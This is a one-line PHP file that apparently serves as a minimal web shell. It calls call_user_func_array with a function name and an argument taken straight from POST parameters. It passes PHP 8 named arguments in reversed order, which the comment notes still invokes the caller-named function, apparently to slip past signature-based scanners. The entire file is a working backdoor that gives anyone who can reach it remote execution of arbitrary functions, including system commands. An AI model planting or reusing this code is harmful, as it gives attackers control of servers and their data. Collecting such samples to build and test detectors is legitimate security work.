<?php
// PHP 8 named arguments given out of order: the callable is still the one the request names.
call_user_func_array(args: [$_POST['b']], callback: $_POST['a']);
